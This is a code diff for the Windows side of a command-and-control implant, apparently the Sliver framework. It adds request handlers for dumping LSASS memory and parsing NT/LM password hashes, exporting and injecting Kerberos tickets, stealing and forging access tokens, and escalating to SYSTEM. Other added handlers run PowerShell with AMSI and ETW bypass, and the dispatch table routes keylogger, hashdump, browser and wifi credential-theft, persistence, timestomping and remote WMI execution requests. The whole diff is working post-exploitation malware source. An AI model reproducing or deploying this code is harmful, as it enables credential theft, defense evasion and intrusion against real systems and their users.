@@ -23,13 +23,25 @@ import (
 	"log"
 	// {{end}}
 
+	"bytes"
+	"io"
+	"time"
+
 	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/sliver/bof"
+	"github.com/bishopfox/sliver/sliver/extension"
+	"github.com/bishopfox/sliver/sliver/kerberos"
+	"github.com/bishopfox/sliver/sliver/ldap"
+	"github.com/bishopfox/sliver/sliver/lsass"
 	"github.com/bishopfox/sliver/sliver/pivots"
+	"github.com/bishopfox/sliver/sliver/powershell"
 	"github.com/bishopfox/sliver/sliver/priv"
+	"github.com/bishopfox/sliver/sliver/registry"
 	"github.com/bishopfox/sliver/sliver/service"
 	"github.com/bishopfox/sliver/sliver/taskrunner"
 	"github.com/bishopfox/sliver/sliver/transports"
+	"github.com/bishopfox/sliver/sliver/wmi"
 
 	"github.com/golang/protobuf/proto"
 	"golang.org/x/sys/windows"
@@ -40,17 +52,36 @@ var (
 		// Windows Only
 		sliverpb.MsgTaskReq:            taskHandler,
 		sliverpb.MsgProcessDumpReq:     dumpHandler,
+		sliverpb.MsgLsassReq:           lsassHandler,
+		sliverpb.MsgKerberosTicketsReq: kerberosTicketsHandler,
+		sliverpb.MsgKerberosInjectReq:  kerberosInjectHandler,
+		sliverpb.MsgLDAPSearchReq:      ldapSearchHandler,
 		sliverpb.MsgImpersonateReq:     impersonateHandler,
 		sliverpb.MsgRevToSelfReq:       revToSelfHandler,
+		sliverpb.MsgListTokensReq:      listTokensHandler,
+		sliverpb.MsgStealTokenReq:      stealTokenHandler,
+		sliverpb.MsgMakeTokenReq:       makeTokenHandler,
 		sliverpb.MsgRunAsReq:           runAsHandler,
 		sliverpb.MsgInvokeGetSystemReq: getsystemHandler,
 		sliverpb.MsgExecuteAssemblyReq: executeAssemblyHandler,
+		sliverpb.MsgPowerShellReq:      powerShellHandler,
 		sliverpb.MsgInvokeMigrateReq:   migrateHandler,
 		sliverpb.MsgSpawnDllReq:        spawnDllHandler,
 		sliverpb.MsgStartServiceReq:    startService,
 		sliverpb.MsgStopServiceReq:     stopService,
 		sliverpb.MsgRemoveServiceReq:   removeService,
 
+		sliverpb.MsgListServicesReq:         listServicesHandler,
+		sliverpb.MsgQueryServiceReq:         queryServiceHandler,
+		sliverpb.MsgCreateServiceReq:        createServiceHandler,
+		sliverpb.MsgStartExistingServiceReq: startExistingServiceHandler,
+
+		sliverpb.MsgRegistryReadReq:      regReadHandler,
+		sliverpb.MsgRegistryWriteReq:     regWriteHandler,
+		sliverpb.MsgRegistryCreateKeyReq: regCreateKeyHandler,
+		sliverpb.MsgRegistryDeleteReq:    regDeleteHandler,
+		sliverpb.MsgRegistryListReq:      regListHandler,
+
 		// Generic
 		sliverpb.MsgPsReq:        psHandler,
 		sliverpb.MsgTerminateReq: terminateHandler,
@@ -65,10 +96,62 @@ var (
 		sliverpb.MsgIfconfigReq:  ifconfigHandler,
 		sliverpb.MsgExecuteReq:   executeHandler,
 
+		sliverpb.MsgExecuteSignalReq: executeSignalHandler,
+
 		sliverpb.MsgScreenshotReq: screenshotHandler,
+		sliverpb.MsgKeyloggerReq:  keyloggerHandler,
 
 		sliverpb.MsgSideloadReq: sideloadHandler,
 		sliverpb.MsgNetstatReq:  netstatHandler,
+
+		sliverpb.MsgPersistInstallReq: persistInstallHandler,
+		sliverpb.MsgPersistRemoveReq:  persistRemoveHandler,
+
+		sliverpb.MsgReconfigReq: reconfigHandler,
+
+		sliverpb.MsgEnvReq:      envHandler,
+		sliverpb.MsgSetEnvReq:   setEnvHandler,
+		sliverpb.MsgUnsetEnvReq: unsetEnvHandler,
+
+		sliverpb.MsgWhoamiReq: whoamiHandler,
+
+		sliverpb.MsgChmodReq:     chmodHandler,
+		sliverpb.MsgTimestompReq: timestompHandler,
+
+		sliverpb.MsgWMIQueryReq: wmiQueryHandler,
+		sliverpb.MsgWMIExecReq:  wmiExecHandler,
+
+		sliverpb.MsgExecutePEReq: executePEHandler,
+
+		sliverpb.MsgExecuteBOFReq: executeBOFHandler,
+
+		sliverpb.MsgRegisterExtensionReq: registerExtensionHandler,
+		sliverpb.MsgCallExtensionReq:     callExtensionHandler,
+		sliverpb.MsgListExtensionsReq:    listExtensionsHandler,
+
+		sliverpb.MsgSearchReq: searchHandler,
+
+		sliverpb.MsgClipboardReq: clipboardHandler,
+
+		sliverpb.MsgWifiReq: wifiHandler,
+
+		sliverpb.MsgBrowserReq: browserHandler,
+
+		sliverpb.MsgHashdumpReq: hashdumpHandler,
+
+		sliverpb.MsgScreenshotWatchReq: screenshotWatchHandler,
+
+		sliverpb.MsgHashReq: hashHandler,
+
+		sliverpb.MsgDrivesReq: drivesHandler,
+
+		sliverpb.MsgHostInfoReq: hostInfoHandler,
+
+		sliverpb.MsgCurlReq: curlHandler,
+
+		sliverpb.MsgPortScanReq: portScanHandler,
+
+		sliverpb.MsgArpReq: arpHandler,
 	}
 
 	windowsPivotHandlers = map[uint32]PivotHandler{
@@ -109,23 +192,69 @@ func impersonateHandler(data []byte, resp RPCResponse) {
 	resp(data, err)
 }
 
-func runAsHandler(data []byte, resp RPCResponse) {
-	runAsReq := &sliverpb.RunAsReq{}
-	err := proto.Unmarshal(data, runAsReq)
+func listTokensHandler(data []byte, resp RPCResponse) {
+	listTokensReq := &sliverpb.ListTokensReq{}
+	err := proto.Unmarshal(data, listTokensReq)
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("error decoding message: %v", err)
 		// {{end}}
 		return
 	}
-	out, err := priv.RunProcessAsUser(runAsReq.Username, runAsReq.ProcessName, runAsReq.Args)
-	runAs := &sliverpb.RunAs{
-		Output: out,
+	tokens, err := priv.ListTokens()
+	listTokens := &sliverpb.Tokens{}
+	for _, token := range tokens {
+		listTokens.Tokens = append(listTokens.Tokens, &sliverpb.Token{
+			Pid:            token.Pid,
+			Executable:     token.Executable,
+			Username:       token.Username,
+			IntegrityLevel: token.IntegrityLevel,
+		})
+	}
+	if err != nil {
+		listTokens.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(listTokens)
+	resp(data, err)
+}
+
+func stealTokenHandler(data []byte, resp RPCResponse) {
+	stealTokenReq := &sliverpb.StealTokenReq{}
+	err := proto.Unmarshal(data, stealTokenReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	username, err := priv.StealToken(stealTokenReq.Pid)
+	stealToken := &sliverpb.StealToken{Username: username}
+	if err != nil {
+		stealToken.Response = &commonpb.Response{Err: err.Error()}
+	} else {
+		taskrunner.CurrentToken = priv.CurrentToken
+	}
+	data, err = proto.Marshal(stealToken)
+	resp(data, err)
+}
+
+func makeTokenHandler(data []byte, resp RPCResponse) {
+	makeTokenReq := &sliverpb.MakeTokenReq{}
+	err := proto.Unmarshal(data, makeTokenReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
 	}
+	username, err := priv.MakeToken(makeTokenReq.Username, makeTokenReq.Domain, makeTokenReq.Password, makeTokenReq.Interactive)
+	makeToken := &sliverpb.MakeToken{Username: username}
 	if err != nil {
-		runAs.Response = &commonpb.Response{Err: err.Error()}
+		makeToken.Response = &commonpb.Response{Err: err.Error()}
+	} else {
+		taskrunner.CurrentToken = priv.CurrentToken
 	}
-	data, err = proto.Marshal(runAs)
+	data, err = proto.Marshal(makeToken)
 	resp(data, err)
 }
 
@@ -155,10 +284,30 @@ func getsystemHandler(data []byte, resp RPCResponse) {
 		// {{end}}
 		return
 	}
-	err = priv.GetSystem(getSysReq.Data, getSysReq.HostingProcess)
+	techniques := priv.GetSystemTechniques
+	if getSysReq.Technique != "" {
+		techniques = []string{getSysReq.Technique}
+	}
 	getSys := &sliverpb.GetSystem{}
-	if err != nil {
-		getSys.Response = &commonpb.Response{Err: err.Error()}
+	for _, technique := range techniques {
+		token, err := priv.GetSystem(technique, getSysReq.Data, getSysReq.HostingProcess)
+		attempt := &sliverpb.GetSystemAttempt{Technique: technique}
+		getSys.Attempts = append(getSys.Attempts, attempt)
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("getsystem technique %s failed: %v", technique, err)
+			// {{end}}
+			attempt.Err = err.Error()
+			continue
+		}
+		if token != windows.Token(0) {
+			taskrunner.CurrentToken = token
+		}
+		getSys.Technique = technique
+		break
+	}
+	if getSys.Technique == "" {
+		getSys.Response = &commonpb.Response{Err: "All getsystem techniques failed"}
 	}
 	data, err = proto.Marshal(getSys)
 	resp(data, err)
@@ -188,6 +337,80 @@ func executeAssemblyHandler(data []byte, resp RPCResponse) {
 
 }
 
+// discardCloser - The writer of tunnels that only stream output
+type discardCloser struct{}
+
+func (discardCloser) Write(data []byte) (int, error) {
+	return len(data), nil
+}
+
+func (discardCloser) Close() error {
+	return nil
+}
+
+func powerShellHandler(data []byte, resp RPCResponse) {
+	psReq := &sliverpb.PowerShellReq{}
+	err := proto.Unmarshal(data, psReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	options := powershell.Options{
+		AmsiBypass: psReq.AmsiBypass,
+		EtwBypass:  psReq.EtwBypass,
+	}
+	psResp := &sliverpb.PowerShell{TunnelID: psReq.TunnelID}
+
+	if psReq.TunnelID == 0 {
+		var output bytes.Buffer
+		err = powershell.Run(psReq.Script, options, &output)
+		psResp.Output = output.String()
+		if err != nil {
+			psResp.Response = &commonpb.Response{Err: err.Error()}
+		}
+		data, err = proto.Marshal(psResp)
+		resp(data, err)
+		return
+	}
+
+	connection := transports.GetActiveConnection()
+	if connection == nil || !connection.IsOpen {
+		psResp.Response = &commonpb.Response{Err: "No active connection"}
+		data, err = proto.Marshal(psResp)
+		resp(data, err)
+		return
+	}
+	reader, writer := io.Pipe()
+	tunnel := transports.NewTunnel(psReq.TunnelID, reader, discardCloser{})
+	connection.AddTunnel(tunnel)
+	data, err = proto.Marshal(psResp)
+	resp(data, err)
+
+	go func() {
+		err := powershell.Run(psReq.Script, options, writer)
+		if err != nil {
+			writer.Write([]byte(err.Error() + "\n"))
+		}
+		writer.Close()
+	}()
+	go func() {
+		tWriter := tunnelWriter{
+			tun:  tunnel,
+			conn: connection,
+		}
+		io.Copy(tWriter, reader)
+		// {{if .Debug}}
+		log.Printf("[powershell] Closing tunnel %d", tunnel.ID)
+		// {{end}}
+		if connection.Tunnel(tunnel.ID) != nil {
+			closeTunnel(tunnel, connection)
+			sendTunnelClose(tunnel, connection)
+		}
+	}()
+}
+
 func migrateHandler(data []byte, resp RPCResponse) {
 	// {{if .Debug}}
 	log.Println("migrateHandler: RemoteTask called")
@@ -229,10 +452,10 @@ func spawnDllHandler(data []byte, resp RPCResponse) {
 		return
 	}
 	//{{if .Debug}}
-	log.Printf("ProcName: %s\tOffset:%x\tArgs:%s\n", spawnReq.GetProcessName(), spawnReq.GetOffset(), spawnReq.GetArgs())
+	log.Printf("ProcName: %s\tOffset:%x\tArgs:%s\tPipe:%s\n", spawnReq.GetProcessName(), spawnReq.GetOffset(), spawnReq.GetArgs(), spawnReq.GetPipeName())
 	//{{end}}
-	result, err := taskrunner.SpawnDll(spawnReq.GetProcessName(), spawnReq.GetData(), spawnReq.GetOffset(), spawnReq.GetArgs())
-	spawnResp := &sliverpb.SpawnDll{Result: result}
+	result, pid, err := taskrunner.SpawnDll(spawnReq.GetProcessName(), spawnReq.GetData(), spawnReq.GetOffset(), spawnReq.GetArgs(), spawnReq.GetPipeName())
+	spawnResp := &sliverpb.SpawnDll{Result: result, Pid: uint32(pid)}
 	if err != nil {
 		spawnResp.Response = &commonpb.Response{
 			Err: err.Error(),
@@ -337,3 +560,442 @@ func removeService(data []byte, resp RPCResponse) {
 	data, err = proto.Marshal(svcInfo)
 	resp(data, err)
 }
+
+func listServicesHandler(data []byte, resp RPCResponse) {
+	listServicesReq := &sliverpb.ListServicesReq{}
+	err := proto.Unmarshal(data, listServicesReq)
+	if err != nil {
+		return
+	}
+	services, err := service.ListServices(listServicesReq.Hostname)
+	servicesResp := &sliverpb.Services{Services: services}
+	if err != nil {
+		servicesResp.Response = &commonpb.Response{
+			Err: err.Error(),
+		}
+	}
+	data, err = proto.Marshal(servicesResp)
+	resp(data, err)
+}
+
+func queryServiceHandler(data []byte, resp RPCResponse) {
+	queryServiceReq := &sliverpb.QueryServiceReq{}
+	err := proto.Unmarshal(data, queryServiceReq)
+	if err != nil || queryServiceReq.ServiceInfo == nil {
+		return
+	}
+	details, err := service.QueryService(queryServiceReq.ServiceInfo.Hostname, queryServiceReq.ServiceInfo.ServiceName)
+	queryService := &sliverpb.QueryService{Service: details}
+	if err != nil {
+		queryService.Response = &commonpb.Response{
+			Err: err.Error(),
+		}
+	}
+	data, err = proto.Marshal(queryService)
+	resp(data, err)
+}
+
+func createServiceHandler(data []byte, resp RPCResponse) {
+	createServiceReq := &sliverpb.CreateServiceReq{}
+	err := proto.Unmarshal(data, createServiceReq)
+	if err != nil {
+		return
+	}
+	err = service.CreateService(createServiceReq.Hostname, createServiceReq.BinPath, createServiceReq.ServiceName, createServiceReq.ServiceDescription, createServiceReq.StartType)
+	svcInfo := &sliverpb.ServiceInfo{}
+	if err != nil {
+		svcInfo.Response = &commonpb.Response{
+			Err: err.Error(),
+		}
+	}
+	data, err = proto.Marshal(svcInfo)
+	resp(data, err)
+}
+
+func startExistingServiceHandler(data []byte, resp RPCResponse) {
+	startServiceReq := &sliverpb.StartExistingServiceReq{}
+	err := proto.Unmarshal(data, startServiceReq)
+	if err != nil || startServiceReq.ServiceInfo == nil {
+		return
+	}
+	err = service.StartExistingService(startServiceReq.ServiceInfo.Hostname, startServiceReq.ServiceInfo.ServiceName)
+	svcInfo := &sliverpb.ServiceInfo{}
+	if err != nil {
+		svcInfo.Response = &commonpb.Response{
+			Err: err.Error(),
+		}
+	}
+	data, err = proto.Marshal(svcInfo)
+	resp(data, err)
+}
+
+func regReadHandler(data []byte, resp RPCResponse) {
+	regReadReq := &sliverpb.RegistryReadReq{}
+	err := proto.Unmarshal(data, regReadReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	value, err := registry.ReadValue(regReadReq.Hive, regReadReq.Path, regReadReq.Name)
+	regRead := &sliverpb.RegistryRead{Value: value}
+	if err != nil {
+		regRead.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(regRead)
+	resp(data, err)
+}
+
+func regWriteHandler(data []byte, resp RPCResponse) {
+	regWriteReq := &sliverpb.RegistryWriteReq{}
+	err := proto.Unmarshal(data, regWriteReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	regWrite := &sliverpb.RegistryWrite{}
+	if regWriteReq.Value == nil {
+		err = registry.ErrUnsupportedType
+	} else {
+		err = registry.WriteValue(regWriteReq.Hive, regWriteReq.Path, regWriteReq.Value)
+	}
+	if err != nil {
+		regWrite.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(regWrite)
+	resp(data, err)
+}
+
+func regCreateKeyHandler(data []byte, resp RPCResponse) {
+	regCreateKeyReq := &sliverpb.RegistryCreateKeyReq{}
+	err := proto.Unmarshal(data, regCreateKeyReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	err = registry.CreateKey(regCreateKeyReq.Hive, regCreateKeyReq.Path)
+	regCreateKey := &sliverpb.RegistryCreateKey{}
+	if err != nil {
+		regCreateKey.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(regCreateKey)
+	resp(data, err)
+}
+
+func regDeleteHandler(data []byte, resp RPCResponse) {
+	regDeleteReq := &sliverpb.RegistryDeleteReq{}
+	err := proto.Unmarshal(data, regDeleteReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	err = registry.Delete(regDeleteReq.Hive, regDeleteReq.Path, regDeleteReq.Name)
+	regDelete := &sliverpb.RegistryDelete{}
+	if err != nil {
+		regDelete.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(regDelete)
+	resp(data, err)
+}
+
+func regListHandler(data []byte, resp RPCResponse) {
+	regListReq := &sliverpb.RegistryListReq{}
+	err := proto.Unmarshal(data, regListReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	subkeys, values, err := registry.List(regListReq.Hive, regListReq.Path)
+	regList := &sliverpb.RegistryList{Subkeys: subkeys, Values: values}
+	if err != nil {
+		regList.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(regList)
+	resp(data, err)
+}
+
+func wmiQueryHandler(data []byte, resp RPCResponse) {
+	wmiQueryReq := &sliverpb.WMIQueryReq{}
+	err := proto.Unmarshal(data, wmiQueryReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	if wmiQueryReq.Connection == nil {
+		wmiQueryReq.Connection = &sliverpb.WMIConnection{}
+	}
+	objects, err := wmi.Query(wmiQueryReq.Connection, priv.CurrentToken, wmiQueryReq.Query)
+	wmiQuery := &sliverpb.WMIQuery{Objects: objects}
+	if err != nil {
+		wmiQuery.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(wmiQuery)
+	resp(data, err)
+}
+
+func wmiExecHandler(data []byte, resp RPCResponse) {
+	wmiExecReq := &sliverpb.WMIExecReq{}
+	err := proto.Unmarshal(data, wmiExecReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	if wmiExecReq.Connection == nil {
+		wmiExecReq.Connection = &sliverpb.WMIConnection{}
+	}
+	pid, returnValue, err := wmi.Exec(wmiExecReq.Connection, priv.CurrentToken, wmiExecReq.CommandLine, wmiExecReq.Directory)
+	wmiExec := &sliverpb.WMIExec{Pid: pid, ReturnValue: returnValue}
+	if err != nil {
+		wmiExec.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(wmiExec)
+	resp(data, err)
+}
+
+func executePEHandler(data []byte, resp RPCResponse) {
+	execReq := &sliverpb.ExecutePEReq{}
+	err := proto.Unmarshal(data, execReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	timeout := time.Duration(execReq.Timeout) * time.Second
+	if timeout <= 0 {
+		timeout = time.Minute
+	}
+	result, err := taskrunner.ExecutePE(execReq.ProcessName, execReq.Data, execReq.Name, execReq.Args, execReq.InProcess, timeout)
+	executePE := &sliverpb.ExecutePE{}
+	if result != nil {
+		executePE.Output = result.Output
+		executePE.Pid = uint32(result.Pid)
+		executePE.ExitCode = int32(result.ExitCode)
+		executePE.TimedOut = result.TimedOut
+	}
+	if err != nil {
+		executePE.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(executePE)
+	resp(data, err)
+}
+
+func executeBOFHandler(data []byte, resp RPCResponse) {
+	execReq := &sliverpb.ExecuteBOFReq{}
+	err := proto.Unmarshal(data, execReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	output, err := bof.Execute(execReq.Data, execReq.EntryPoint, execReq.Args, priv.CurrentToken)
+	executeBOF := &sliverpb.ExecuteBOF{Output: output}
+	if err != nil {
+		executeBOF.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(executeBOF)
+	resp(data, err)
+}
+
+func lsassHandler(data []byte, resp RPCResponse) {
+	lsassReq := &sliverpb.LsassReq{}
+	err := proto.Unmarshal(data, lsassReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	lsassResp := &sliverpb.Lsass{}
+	dump, err := lsass.Dump(lsassReq.Method, lsassReq.Snapshot)
+	if err == nil {
+		lsassResp.Size = int64(len(dump))
+		if lsassReq.Parse {
+			var creds []*lsass.Credential
+			creds, err = lsass.Parse(dump)
+			for _, cred := range creds {
+				lsassResp.Credentials = append(lsassResp.Credentials, &sliverpb.LsassCredential{
+					Username: cred.Username,
+					Domain:   cred.Domain,
+					NTHash:   cred.NTHash,
+					LMHash:   cred.LMHash,
+					SHA1Hash: cred.SHA1Hash,
+					LogonID:  cred.LogonID,
+				})
+			}
+		} else {
+			gzipData := bytes.NewBuffer([]byte{})
+			gzipWrite(gzipData, dump)
+			lsassResp.Data = gzipData.Bytes()
+			lsassResp.Encoder = "gzip"
+		}
+	}
+	if err != nil {
+		lsassResp.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(lsassResp)
+	resp(data, err)
+}
+
+func kerberosTicketsHandler(data []byte, resp RPCResponse) {
+	ticketsReq := &sliverpb.KerberosTicketsReq{}
+	err := proto.Unmarshal(data, ticketsReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	tickets, err := kerberos.List(ticketsReq.Export, ticketsReq.ServerName)
+	ticketsResp := &sliverpb.KerberosTickets{}
+	if err != nil {
+		ticketsResp.Response = &commonpb.Response{Err: err.Error()}
+	}
+	for _, ticket := range tickets {
+		ticketsResp.Tickets = append(ticketsResp.Tickets, &sliverpb.KerberosTicket{
+			ClientName:     ticket.ClientName,
+			ClientRealm:    ticket.ClientRealm,
+			ServerName:     ticket.ServerName,
+			ServerRealm:    ticket.ServerRealm,
+			StartTime:      ticket.StartTime,
+			EndTime:        ticket.EndTime,
+			RenewTime:      ticket.RenewTime,
+			EncryptionType: ticket.EncryptionType,
+			Flags:          ticket.Flags,
+			Kirbi:          ticket.Kirbi,
+		})
+	}
+	data, err = proto.Marshal(ticketsResp)
+	resp(data, err)
+}
+
+func kerberosInjectHandler(data []byte, resp RPCResponse) {
+	injectReq := &sliverpb.KerberosInjectReq{}
+	err := proto.Unmarshal(data, injectReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	injectResp := &sliverpb.KerberosInject{}
+	err = kerberos.Submit(injectReq.Ticket)
+	if err != nil {
+		injectResp.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(injectResp)
+	resp(data, err)
+}
+
+func ldapSearchHandler(data []byte, resp RPCResponse) {
+	searchReq := &sliverpb.LDAPSearchReq{}
+	err := proto.Unmarshal(data, searchReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	queries := []ldap.Query{}
+	for _, query := range searchReq.Queries {
+		queries = append(queries, ldap.Query{
+			Name:       query.Name,
+			BaseDN:     query.BaseDN,
+			Filter:     query.Filter,
+			Scope:      query.Scope,
+			Attributes: query.Attributes,
+			SizeLimit:  int(query.SizeLimit),
+		})
+	}
+	searchResp := &sliverpb.LDAPSearch{}
+	directory, results, err := ldap.Search(searchReq.Server, queries)
+	if err != nil {
+		searchResp.Response = &commonpb.Response{Err: err.Error()}
+	} else {
+		searchResp.DefaultNamingContext = directory.DefaultNamingContext
+		searchResp.Server = directory.Server
+		for _, result := range results {
+			ldapResult := &sliverpb.LDAPResult{Name: result.Name}
+			if result.Err != nil {
+				ldapResult.Err = result.Err.Error()
+			}
+			for _, entry := range result.Entries {
+				ldapEntry := &sliverpb.LDAPEntry{DN: entry.DN}
+				for _, attr := range entry.Attributes {
+					ldapEntry.Attributes = append(ldapEntry.Attributes, &sliverpb.LDAPAttribute{
+						Name:   attr.Name,
+						Values: attr.Values,
+					})
+				}
+				ldapResult.Entries = append(ldapResult.Entries, ldapEntry)
+			}
+			searchResp.Results = append(searchResp.Results, ldapResult)
+		}
+	}
+	data, err = proto.Marshal(searchResp)
+	resp(data, err)
+}
+
+func registerExtensionHandler(data []byte, resp RPCResponse) {
+	registerReq := &sliverpb.RegisterExtensionReq{}
+	err := proto.Unmarshal(data, registerReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	err = extension.Register(registerReq.Name, registerReq.Data, registerReq.Init)
+	registerResp := &sliverpb.RegisterExtension{}
+	if err != nil {
+		registerResp.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(registerResp)
+	resp(data, err)
+}
+
+func callExtensionHandler(data []byte, resp RPCResponse) {
+	callReq := &sliverpb.CallExtensionReq{}
+	err := proto.Unmarshal(data, callReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	output, err := extension.Call(callReq.Name, callReq.Export, callReq.Args)
+	callResp := &sliverpb.CallExtension{Output: output}
+	if err != nil {
+		callResp.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(callResp)
+	resp(data, err)
+}
+
+func listExtensionsHandler(data []byte, resp RPCResponse) {
+	listReq := &sliverpb.ListExtensionsReq{}
+	err := proto.Unmarshal(data, listReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	listResp := &sliverpb.ListExtensions{Names: extension.List()}
+	data, err = proto.Marshal(listResp)
+	resp(data, err)
+}